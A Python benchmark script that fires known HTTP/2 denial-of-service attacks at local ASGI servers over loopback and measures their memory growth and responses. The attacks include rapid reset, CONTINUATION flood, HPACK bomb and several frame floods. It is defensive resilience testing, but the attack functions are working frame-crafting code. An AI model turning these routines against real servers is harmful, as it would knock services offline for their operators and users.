"""What the known HTTP/2 attacks cost a server in memory, and how it ends them.

    python bench/h2_floods.py                            # fastasgi, compiled and pure
    python bench/h2_floods.py --servers fastasgi,hypercorn,h2corn,granian

For each server (one process, the same app as bench/run.py, h2c with prior
knowledge) each attack runs on a connection of its own, bounded in frames
and seconds: rapid reset (CVE-2023-44487), CONTINUATION flood
(CVE-2024-27316), an HPACK bomb, PING, SETTINGS and empty-DATA floods, a
client that never opens its window, more streams than the server allows,
and invalid prefaces.  While an attack runs, the server's resident memory
(VmRSS of the process and its children, from /proc) is sampled; the table
gives its growth at the peak, how the server answered (the GOAWAY's error
code, streams refused or reset, or the connection closed), and whether an
ordinary GET on another connection was answered right after.  Loopback
only; writes bench/results/h2_floods.json (docs/http2.md has a run).
"""
import argparse
import json
import os
import socket
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame,
)

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from idle_memory import rss_mib  # noqa: E402
from run import PORT, RESULTS, server_commands, start_server, stop_server  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACK_SECONDS = 10  # each attack ends by then, answered or not
ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x3: "FLOW_CONTROL_ERROR", 0x6: "FRAME_SIZE_ERROR",
               0x7: "REFUSED_STREAM", 0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xb: "ENHANCE_YOUR_CALM"}


def request_block(encoder, path=b"/", method=b"GET"):
    return encoder.encode([(b":method", method), (b":scheme", b"http"), (b":authority", b"127.0.0.1"),
                           (b":path", path)])


class Attacker:
    """One client connection: sends frames, and reads what the server answers
    on a thread of its own, so a server that stops reading cannot block it."""

    def __init__(self, port, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.encoder = hpack.Encoder()
        self.goaway = None
        self.resets = {}  # RST_STREAM error code -> count
        self.responses = 0
        self.closed = threading.Event()
        self.buffer = b""
        threading.Thread(target=self._read, daemon=True).start()
        self.send(PREFACE + SettingsFrame(0, settings or {}).serialize())

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:  # the server closed: the attack is over
            return False

    def _read(self):
        self.sock.settimeout(ATTACK_SECONDS + 5)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                self.buffer += data
                self._frames()
        except OSError:
            pass
        self.closed.set()

    def _frames(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            body, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            if isinstance(frame, (GoAwayFrame, RstStreamFrame)):
                frame.parse_body(memoryview(body))
                if isinstance(frame, GoAwayFrame):
                    self.goaway = frame.error_code
                else:
                    self.resets[frame.error_code] = self.resets.get(frame.error_code, 0) + 1
            elif isinstance(frame, HeadersFrame):
                self.responses += 1

    def outcome(self):
        parts = []
        if self.goaway is not None:
            parts.append("GOAWAY " + ERROR_NAMES.get(self.goaway, hex(self.goaway)))
        parts += [f"{count} RST_STREAM {ERROR_NAMES.get(code, hex(code))}" for code, count in self.resets.items()]
        if self.responses:
            parts.append(f"{self.responses} responses")
        parts.append("closed" if self.closed.is_set() else "left open")
        return ", ".join(parts)

    def close(self):
        self.sock.close()


def send_until_closed(attacker, frames, repeat, deadline):
    """`frames` (bytes) sent `repeat` times, or until the server closes or time runs out."""
    for _ in range(repeat):
        if attacker.closed.is_set() or time.monotonic() > deadline or not attacker.send(frames):
            return


def rapid_reset(port, deadline):
    attacker = Attacker(port)
    stream_id = 1
    while stream_id < 40_000 and not attacker.closed.is_set() and time.monotonic() < deadline:
        batch = b""
        for _ in range(100):
            batch += HeadersFrame(stream_id, request_block(attacker.encoder), flags=["END_HEADERS", "END_STREAM"]).serialize()
            batch += RstStreamFrame(stream_id, error_code=0x8).serialize()
            stream_id += 2
        if not attacker.send(batch):
            break
    return attacker


def continuation_flood(port, deadline):
    attacker = Attacker(port)
    block = request_block(attacker.encoder)
    attacker.send(HeadersFrame(1, block[:1]).serialize())  # no END_HEADERS: CONTINUATION must follow
    piece = ContinuationFrame(1, b"\x00" * 16384).serialize()
    send_until_closed(attacker, piece * 16, 1000, deadline)  # up to 256 MiB of header block
    return attacker


def hpack_bomb(port, deadline):
    """One 4 KiB header into the dynamic table, then blocks that name it again and again."""
    attacker = Attacker(port)
    first = request_block(attacker.encoder) + attacker.encoder.encode([(b"x-bomb", b"b" * 4000)])
    attacker.send(HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]).serialize())
    index = bytes([0x80 | 62])  # the entry just added
    for stream_id in range(3, 203, 2):
        block = request_block(attacker.encoder) + index * 16000  # 64 MB of decoded headers
        if attacker.closed.is_set() or time.monotonic() > deadline or not attacker.send(
                HeadersFrame(stream_id, block, flags=["END_HEADERS", "END_STREAM"]).serialize()):
            break
    return attacker


def ping_flood(port, deadline):
    attacker = Attacker(port)
    send_until_closed(attacker, PingFrame(0, opaque_data=b"12345678").serialize() * 1000, 100, deadline)
    return attacker


def settings_flood(port, deadline):
    attacker = Attacker(port)
    send_until_closed(attacker, SettingsFrame(0).serialize() * 1000, 100, deadline)
    return attacker


def empty_data_flood(port, deadline):
    attacker = Attacker(port)
    attacker.send(HeadersFrame(1, request_block(attacker.encoder, b"/echo", b"POST"),
                               flags=["END_HEADERS"]).serialize())
    send_until_closed(attacker, DataFrame(1, b"").serialize() * 1000, 100, deadline)
    return attacker


def zero_window(port, deadline):
    """Asks for 100 MiB of responses with a window of 0, and never opens it."""
    attacker = Attacker(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    frames = b"".join(HeadersFrame(stream_id, request_block(attacker.encoder, b"/big"),
                                   flags=["END_HEADERS", "END_STREAM"]).serialize()
                      for stream_id in range(1, 200, 2))
    attacker.send(frames)
    time.sleep(min(3.0, max(0.0, deadline - time.monotonic())))
    return attacker


def too_many_streams(port, deadline):
    """1,000 request bodies opened at once, none of them ended."""
    attacker = Attacker(port)
    frames = b"".join(HeadersFrame(stream_id, request_block(attacker.encoder, b"/echo", b"POST"),
                                   flags=["END_HEADERS"]).serialize()
                      for stream_id in range(1, 2000, 2))
    attacker.send(frames)
    time.sleep(min(2.0, max(0.0, deadline - time.monotonic())))
    return attacker


def invalid_prefaces(port, deadline):
    """1,000 connections that open with anything but the preface."""
    answered = 0
    for _ in range(1000):
        if time.monotonic() > deadline:
            break
        with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + b"\x00" * 64)
            try:
                answered += bool(sock.recv(4096))
            except OSError:
                pass
    return f"{answered} of 1000 answered and closed"


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "empty-data-flood": empty_data_flood,
    "zero-window": zero_window,
    "too-many-streams": too_many_streams,
    "invalid-preface": invalid_prefaces,
}


def ordinary_get(port):
    """Seconds for one GET on a fresh connection, or None if it was not answered."""
    started = time.monotonic()
    attacker = Attacker(port)
    attacker.send(HeadersFrame(1, request_block(attacker.encoder), flags=["END_HEADERS", "END_STREAM"]).serialize())
    while time.monotonic() - started < 5 and not attacker.responses and not attacker.closed.is_set():
        time.sleep(0.005)
    attacker.close()
    return time.monotonic() - started if attacker.responses else None


def run_attack(name, attack, port, pid):
    peak = [rss_mib(pid)]
    before = peak[0]
    done = threading.Event()

    def sample():
        while not done.wait(0.05):
            peak[0] = max(peak[0], rss_mib(pid))

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    started = time.monotonic()
    result = attack(port, started + ATTACK_SECONDS)
    if isinstance(result, Attacker):
        result.closed.wait(max(0.0, started + ATTACK_SECONDS - time.monotonic()))
        outcome = result.outcome()
        result.close()
    else:
        outcome = result
    seconds = time.monotonic() - started
    done.set()
    sampler.join()
    get_seconds = ordinary_get(port)
    return {"attack": name, "rss_before_mib": round(before, 1), "rss_growth_mib": round(peak[0] - before, 1),
            "seconds": round(seconds, 2), "outcome": outcome,
            "ordinary_get_ms": None if get_seconds is None else round(get_seconds * 1000, 1)}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--servers", default="fastasgi,fastasgi-pure")
    parser.add_argument("--attacks", default=",".join(ATTACKS))
    parser.add_argument("--results", default=RESULTS, help="where h2_floods.json goes")
    options = parser.parse_args()
    commands = server_commands(sys.executable, PORT)
    results = {}
    for name in options.servers.split(","):
        if name not in commands:
            print(f"{name}: not a server bench/run.py knows", file=sys.stderr)
            continue
        process = start_server(name, commands, PORT)
        try:
            rows = results[name] = []
            print(f"\n{name}")
            print(f"{'attack':<20} {'RSS growth':>10} {'seconds':>8} {'next GET':>9}  outcome")
            for attack in options.attacks.split(","):
                row = run_attack(attack, ATTACKS[attack], PORT, process.pid)
                rows.append(row)
                get = "no answer" if row["ordinary_get_ms"] is None else f"{row['ordinary_get_ms']} ms"
                print(f"{attack:<20} {row['rss_growth_mib']:>7.1f} MiB {row['seconds']:>8.2f} {get:>9}  "
                      f"{row['outcome']}", flush=True)
        finally:
            stop_server(process)
    os.makedirs(options.results, exist_ok=True)
    with open(os.path.join(options.results, "h2_floods.json"), "w") as file:
        json.dump(results, file, indent=2)


if __name__ == "__main__":
    main()
